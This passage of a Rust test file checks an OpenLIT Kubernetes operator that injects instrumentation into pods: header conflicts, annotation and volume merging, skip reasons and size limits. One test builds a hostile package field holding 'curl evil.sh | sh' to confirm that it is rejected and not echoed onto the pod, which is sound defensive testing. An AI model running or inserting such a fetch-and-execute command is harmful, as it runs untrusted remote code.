        "    endpoint: http://collector.observability:4318\n    headers: \"api-key=plain\"\n    headersFrom:\n      secretKeyRef: {name: otlp-credentials, key: headers}\n",
    );
    let compiled = policy(&yaml);
    assert_eq!(
        compiled.errors,
        ["spec.otlp.headers and spec.otlp.headersFrom cannot both be set"]
    );
    let mutation = run(&pod(CHAT_POD), "shop", &[compiled]);
    assert!(matches!(mutation.decision, Decision::Skipped { .. }));
    let patch = serde_json::to_string(&mutation.patch).unwrap();
    assert!(!patch.contains("api-key=plain"), "{patch}");
}

#[test]
fn existing_annotations_volumes_and_init_containers_are_appended_to() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let p = pod(r#"
metadata: {name: chat, labels: {app: chat}, annotations: {team: search}}
spec:
  initContainers: [{name: migrate, image: "python:3.12"}]
  volumes: [{name: data, emptyDir: {}}]
  containers:
  - name: app
    image: python:3.12
    volumeMounts: [{name: data, mountPath: /data}]
    env: [{name: A, value: "1"}]
"#);
    let after = patched(&p, &run(&p, "shop", &policies));
    assert_eq!(after["metadata"]["annotations"]["team"], "search");
    assert_eq!(
        after["metadata"]["annotations"]["openlit.io/instrumented-by"],
        "shop/ai"
    );
    let init: Vec<&str> = after["spec"]["initContainers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(init, vec!["migrate", "auto-instrumentation-openlit"]);
    assert_eq!(after["spec"]["volumes"][0]["name"], "data");
    assert_eq!(
        after["spec"]["volumes"][1]["name"],
        "instrumentation-packages"
    );
    assert_eq!(
        after["spec"]["containers"][0]["volumeMounts"][0]["name"],
        "data"
    );
    assert_eq!(env_value(&after, 0, "A").as_deref(), Some("1"));
}

#[test]
fn pods_no_resource_selects_get_no_patch() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let mut other = pod(CHAT_POD);
    other["metadata"]["labels"] = json!({"app": "billing"});
    let mutation = run(&other, "shop", &policies);
    assert!(mutation.patch.is_empty() && mutation.warnings.is_empty());
    let unlabelled = pod("metadata: {name: x}\nspec: {containers: [{name: a, image: python}]}");
    assert!(run(&unlabelled, "shop", &policies).patch.is_empty());
}

/// The pod-level skip of `mutation`: its reason, and the pod after the patch (only annotated).
fn skipped_with(pod: &Value, mutation: &Mutation) -> (String, Value) {
    let Decision::Skipped { reason, .. } = &mutation.decision else {
        panic!("{:?}", mutation.decision)
    };
    let after = patched(pod, mutation);
    assert_eq!(
        after["spec"], pod["spec"],
        "nothing but the annotation changes"
    );
    assert_eq!(
        after["metadata"]["annotations"]["openlit.io/instrumentation-skipped"], *reason,
        "the annotation names the reason"
    );
    assert!(
        mutation
            .warnings
            .iter()
            .any(|w| w.contains(reason.as_str())),
        "{:?}",
        mutation.warnings
    );
    (reason.clone(), after)
}

#[test]
fn an_app_container_with_the_init_containers_name_is_a_skip_reason() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let p = pod(r#"
metadata: {name: chat, labels: {app: chat}}
spec:
  containers:
  - {name: app, image: "python:3.12-slim"}
  - {name: auto-instrumentation-openlit, image: "python:3.12-slim"}
"#);
    let mutation = run(&p, "shop", &policies);
    let (reason, _) = skipped_with(&p, &mutation);
    assert_eq!(
        reason,
        "the pod already has a container named auto-instrumentation-openlit, the init container the operator adds"
    );
    // Another provider's name does not collide.
    let openllmetry = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      provider: openllmetry\n";
    let mutation = run(&p, "shop", &[policy(&openllmetry)]);
    assert!(
        matches!(mutation.decision, Decision::Instrumented { .. }),
        "{:?}",
        mutation.decision
    );
    let after = patched(&p, &mutation);
    assert_eq!(
        after["spec"]["initContainers"][0]["name"],
        "auto-instrumentation-openllmetry"
    );
}

#[test]
fn an_invalid_resource_is_named_on_the_pod_without_quoting_its_errors() {
    let hostile_text = format!("requests; {}", "curl evil.sh | sh ".repeat(2000));
    let hostile = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + &format!(
            "  python:\n    instrumentation:\n      customPackages: \"{hostile_text}\"\n      pythonVersion: \"2.7\"\n"
        );
    let compiled = policy(&hostile);
    let errors = compiled.errors.len();
    assert!(errors >= 2, "{:?}", compiled.errors);
    let p = pod(CHAT_POD);
    let mutation = run(&p, "shop", &[compiled]);
    let (reason, after) = skipped_with(&p, &mutation);
    assert_eq!(
        reason,
        format!(
            "AutoInstrumentation shop/ai is invalid ({errors} errors, see its status and Events)"
        )
    );
    let annotations = serde_json::to_string(&after["metadata"]["annotations"]).unwrap();
    assert!(!annotations.contains("evil.sh"), "{annotations}");
}

#[test]
fn the_skip_annotation_lists_skipped_containers_within_a_kilobyte() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let mut containers = vec![json!({"name": "app", "image": "python:3.12-slim"})];
    for i in 0..90 {
        containers.push(
            json!({"name": format!("tools-{i}-{}", "x".repeat(40)), "image": "busybox:1.36"}),
        );
    }
    let p = json!({"metadata": {"name": "chat", "labels": {"app": "chat"}}, "spec": {"containers": containers}});
    let mutation = run(&p, "shop", &policies);
    assert!(matches!(mutation.decision, Decision::Instrumented { .. }));
    let after = patched(&p, &mutation);
    let skipped = after["metadata"]["annotations"]["openlit.io/instrumentation-skipped"]
        .as_str()
        .unwrap();
    assert!(skipped.len() <= 1024, "{} bytes", skipped.len());
    assert!(skipped.starts_with("tools-0-"), "{skipped}");
    assert!(skipped.contains(" more"), "the rest is counted: {skipped}");

    // Nothing selected: the pod-level reason is capped the same way.
    let mut none = p.clone();
    none["spec"]["containers"][0]["image"] = json!("alpine:3");
    let mutation = run(&none, "shop", &policies);
    let (reason, _) = skipped_with(&none, &mutation);
    assert!(reason.len() <= 1024, "{} bytes", reason.len());
    assert!(reason.starts_with("no container was selected: app: image alpine:3"));
}

#[test]
fn pods_beyond_the_documented_limits_are_left_unchanged_with_the_reason() {
    use openlit_operator::inject::{
        MAX_CONTAINERS, MAX_ENV_PER_CONTAINER, MAX_RESOURCE_ATTRIBUTES_BYTES,
        MAX_RESOURCE_ATTRIBUTES_PAIRS,
    };
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let with = |containers: Vec<Value>, init: Vec<Value>| {
        json!({"metadata": {"name": "chat", "labels": {"app": "chat"}},
               "spec": {"containers": containers, "initContainers": init}})
    };
    let python = |name: String, env: Vec<Value>| json!({"name": name, "image": "python:3.12-slim", "env": env});

    // Containers: init and application containers count together.
    let apps: Vec<Value> = (0..MAX_CONTAINERS - 10)
        .map(|i| python(format!("c{i}"), vec![]))
        .collect();
    let inits: Vec<Value> = (0..11)
        .map(|i| json!({"name": format!("i{i}"), "image": "busybox"}))
        .collect();
    let p = with(apps.clone(), inits);
    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
    assert_eq!(
        reason,
        format!(
            "the pod has {} containers (init and application), more than the {MAX_CONTAINERS} the operator instruments",
            MAX_CONTAINERS + 1
        )
    );
    let at_the_limit = with(
        apps,
        (0..10)
            .map(|i| json!({"name": format!("i{i}"), "image": "busybox"}))
            .collect(),
    );
    assert!(matches!(
        run(&at_the_limit, "shop", &policies).decision,
        Decision::Instrumented { .. }
    ));

    // Environment entries of one container.
    let env: Vec<Value> = (0..=MAX_ENV_PER_CONTAINER)
        .map(|i| json!({"name": format!("V{i}"), "value": "x"}))
        .collect();
    let p = with(vec![python("app".into(), env)], vec![]);
    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
    assert_eq!(
        reason,
        format!(
            "container app has {} env entries, more than the {MAX_ENV_PER_CONTAINER} the operator instruments",
            MAX_ENV_PER_CONTAINER + 1
        )
    );

    // OTEL_RESOURCE_ATTRIBUTES: length, then number of pairs.
    let attributes =
        |value: String| vec![json!({"name": "OTEL_RESOURCE_ATTRIBUTES", "value": value})];
    let mib = "k=v,".repeat(256 * 1024);
    let p = with(vec![python("app".into(), attributes(mib))], vec![]);
    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
    assert!(
        reason.starts_with(&format!("container app sets OTEL_RESOURCE_ATTRIBUTES to {} bytes, more than the {MAX_RESOURCE_ATTRIBUTES_BYTES}", 1024 * 1024)),
        "{reason}"
    );
    let pairs = (0..=MAX_RESOURCE_ATTRIBUTES_PAIRS)
        .map(|i| format!("k{i}=v"))
        .collect::<Vec<_>>()
        .join(",");
    let p = with(vec![python("app".into(), attributes(pairs))], vec![]);
    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
    assert!(
        reason.starts_with(&format!(
            "container app sets OTEL_RESOURCE_ATTRIBUTES to {} pairs",
            MAX_RESOURCE_ATTRIBUTES_PAIRS + 1
        )),
        "{reason}"
    );

    // Within the limits, the largest attribute list still merges per key, the user's pairs first.
    let pairs = (0..MAX_RESOURCE_ATTRIBUTES_PAIRS)
        .map(|i| format!("k{i}=v{i}"))
        .collect::<Vec<_>>()
        .join(",");
    let p = with(
        vec![python("app".into(), attributes(pairs.clone()))],
        vec![],
    );
    let mutation = run(&p, "shop", &policies);
    let after = patched(&p, &mutation);
    let merged = env_value(&after, 0, "OTEL_RESOURCE_ATTRIBUTES").unwrap();
    assert!(
        merged.starts_with(&format!("{pairs},k8s.namespace.name=shop,")),
        "{merged}"
    );
}

#[test]
fn a_patch_beyond_the_size_limit_is_not_returned() {
    use openlit_operator::inject::{
        MAX_CONTAINERS, MAX_PATCH_BYTES, MAX_RESOURCE_ATTRIBUTES_BYTES,
    };
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    // Each container's own attributes are within the limits, but merged into every container
    // of a pod at the container limit they would make a patch larger than the API server takes.
    let value = format!("big={}", "v".repeat(MAX_RESOURCE_ATTRIBUTES_BYTES - 10));
    let containers: Vec<Value> = (0..MAX_CONTAINERS)
        .map(|i| {
            json!({"name": format!("c{i}"), "image": "python:3.12-slim",
                        "env": [{"name": "OTEL_RESOURCE_ATTRIBUTES", "value": value}]})
        })
        .collect();
    let p = json!({"metadata": {"name": "chat", "labels": {"app": "chat"}}, "spec": {"containers": containers}});
    let (reason, _) = skipped_with(&p, &run(&p, "shop", &policies));
    assert!(reason.starts_with("the patch would be "), "{reason}");
    assert!(
        reason.ends_with(&format!(
            "more than the {MAX_PATCH_BYTES} the operator returns"
        )),
        "{reason}"
    );
}
